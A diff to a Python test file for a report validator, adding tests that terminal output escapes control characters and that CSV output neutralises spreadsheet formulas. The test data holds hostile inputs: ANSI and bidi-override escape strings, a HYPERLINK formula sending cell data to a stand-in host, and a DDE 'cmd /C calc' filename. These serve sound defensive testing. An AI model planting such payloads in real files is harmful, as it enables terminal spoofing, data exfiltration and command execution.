@@ -19,7 +19,7 @@ from rich.console import Console
 
 import validator
 from validator import synth
-from validator.findings import FileResult, Finding
+from validator.findings import CellRef, FileResult, Finding, Suggestion
 from validator.pipeline import lint_paths
 from validator.report import csv, github, jsonl, junit, sarif
 from validator.report import json as json_format
@@ -213,7 +213,7 @@ def test_sarif_pdf_page_goes_to_properties(pdf_result, book):
     assert r["properties"]["reported"] - r["properties"]["computed"] == 2
 
 
-# A small subset of the SARIF 2.1.0 schema, used only if jsonschema happens to be installed.
+# A small subset of the SARIF 2.1.0 schema (jsonschema is in the `test` extra).
 SARIF_SUBSET = {
     "type": "object",
     "required": ["version", "runs"],
@@ -257,7 +257,7 @@ SARIF_SUBSET = {
 
 
 def test_sarif_validates_against_subset_schema(samples, pdf_result, book):
-    jsonschema = pytest.importorskip("jsonschema")  # optional; never installed for this test
+    jsonschema = pytest.importorskip("jsonschema")  # in the `test` extra; skipped only without it
     jsonschema.validate(json.loads(sarif.render(samples + [pdf_result], book)), SARIF_SUBSET)
 
 
@@ -572,3 +572,98 @@ def test_csv_status_column_says_incomplete(mixed, book):
         ("incomplete", "ROW-GLUED", "warning"), ("incomplete", "ROW-RECOVERED", "info")]
     assert mine[0]["message"] == GLUED_MESSAGE and mine[0]["row"] == "normative_documents"
     assert {r["status"] for r in rows if r["path"] == "b.txt"} == {"fail"}
+
+
+# -- output safety: what a report or a file name holds is shown, never obeyed -------------------
+# Text output: control characters (ESC sequences, BEL, CR, C1, bidi overrides) are written as
+# escapes. CSV: a text cell a spreadsheet would evaluate as a formula gets a leading '.
+
+HOSTILE_PATH = "evil\x1b]0;pwned\x07\u202etxt.exe\n通过 fake.txt"
+HOSTILE_MESSAGE = "行标签：「未知\x1b[2J\x9b31m\u2066项目\r」\t附注"
+
+
+def control_result() -> FileResult:
+    cell = CellRef("t3", "new", "natural", 1.0, "1\x1b[5m", line=7, source="表格2第3行\x1b[0m第2列")
+    f = Finding(code="ROW-UNKNOWN", severity="error", message=HOSTILE_MESSAGE, cells=(cell,))
+    return FileResult(path=HOSTILE_PATH, format="2021", year=2022, findings=[f])
+
+
+# Every character that must not reach a terminal raw; \n only between lines.
+RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
+
+
+def test_text_escapes_control_characters_in_paths_messages_and_cells():
+    from types import SimpleNamespace
+
+    buf = io.StringIO()
+    renderer = text_format.TextRenderer(Console(file=buf, color_system=None, highlight=False, soft_wrap=True))
+    r = control_result()
+    renderer.file(r)
+    stale = SimpleNamespace(path="old\x1b[8m.txt", code="T4-SUM", message="旧\u202e消息")
+    renderer.summary([r], stale=[stale])
+    out = buf.getvalue()
+    assert RAW_CONTROL.search(out) is None
+    path = "evil\\x1b]0;pwned\\x07\\u202etxt.exe\\x0a通过 fake.txt"  # one line: even \n is escaped
+    lines = out.splitlines()
+    assert lines[0] == f"未通过 {path}  (2021 年格式 · 2022 年度)"
+    head = f"  {path}:7（表格2第3行\\x1b[0m第2列） 错误 ROW-UNKNOWN 行标签：「未知\\x1b[2J\\x9b31m\\u2066项目\\x0d」"
+    assert lines[1].startswith(head)
+    assert re.fullmatch(" +附注", lines[1][len(head):])  # a message's tab is whitespace (rich expands it)
+    assert "  old\\x1b[8m.txt T4-SUM 旧\\u202e消息" in lines
+    assert not any(line.startswith("通过") for line in lines)  # the path's newline forged no verdict
+
+
+def test_text_control_characters_are_escaped_in_colour_too():
+    plain = render_text([control_result()])
+    coloured = render_text([control_result()], colour=True)
+    # the only escape sequences left are rich's own colours; without them, the plain text
+    assert re.sub(r"\x1b\[[0-9;]*m", "", coloured) == plain
+    assert RAW_CONTROL.search(plain) is None
+
+
+def test_text_escapes_a_label_read_from_a_real_file(book, tmp_path):
+    report = synth.render("2021", synth.figures("2021"), "rows", year=2022)
+    evil = "| 未知\x1b]0;pwned\x07\u202e项目 | 1 | 1 | 1 | 1 | 1 | 1 | 6 |\n"
+    path = tmp_path / "report.md"
+    path.write_text(report.replace("| 2.重复申请 |", evil + "| 2.重复申请 |", 1), encoding="utf-8")
+    (result,) = lint_paths([str(path)], book)
+    f = next(f for f in result.findings if f.code == "ROW-UNKNOWN")
+    assert "\x1b]0;pwned\x07\u202e" in f.message  # the finding keeps the text as read
+    out = render_text([result])
+    assert RAW_CONTROL.search(out) is None
+    assert "「未知\\x1b]0;pwned\\x07\\u202e项目」" in out
+
+
+FORMULA = '=HYPERLINK("http://example.invalid/?d="&A1,"点击查看")'
+
+
+def formula_results() -> list[FileResult]:
+    """A file named like a formula, messages starting with each formula character, and the
+    signed 表二 本年增/减 column: reported, computed and suggestion negative."""
+    change = Finding(code="T2-CHANGE", severity="error", message="-1 是本年增/减", table="t2", row="licensing",
+                     column="change", reported=-3, computed=-5, line=4,
+                     suggestion=Suggestion("t2", "licensing", "change", -4))
+    others = [Finding(code="ROW-UNKNOWN", severity="error", message=m, line=5)
+              for m in ("+1 行", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'已是文本", "表二 -1")]
+    return [FileResult(path=FORMULA, format="2021", year=2022, findings=[change, *others]),
+            FileResult(path="-cmd|' /C calc'!A0.txt", format="2021", year=2022)]
+
+
+def test_csv_neutralises_formulas_in_text_columns(book):
+    rows = read_csv(csv.render(formula_results(), book))
+    assert [r["path"] for r in rows] == ["'" + FORMULA] * 7 + ["'-cmd|' /C calc'!A0.txt"]
+    assert [r["message"] for r in rows[:7]] == ["'-1 是本年增/减", "'+1 行", "'@SUM(A1:A9)", "'\t=1+1", "'\r=1+1",
+                                                "'已是文本", "表二 -1"]  # not at the start: left alone
+    assert {(r["status"], r["code"], r["severity"]) for r in rows[:7]} == {
+        ("fail", "T2-CHANGE", "error"), ("fail", "ROW-UNKNOWN", "error")}
+    assert rows[7]["status"] == "pass" and rows[7]["code"] == ""
+    # the streamed rows are the same
+    results = formula_results()
+    assert csv.render(results, book) == csv.render_header() + "".join(csv.render_file(r) for r in results)
+
+
+def test_csv_keeps_negative_numbers_numbers(book):
+    (row, *_) = read_csv(csv.render(formula_results(), book))
+    assert (row["table"], row["row"], row["column"]) == ("t2", "licensing", "change")
+    assert (row["reported"], row["computed"], row["suggestion"], row["line"]) == ("-3", "-5", "-4", "4")
+    assert int(row["reported"]) - int(row["computed"]) == 2  # a spreadsheet reads numbers, not text
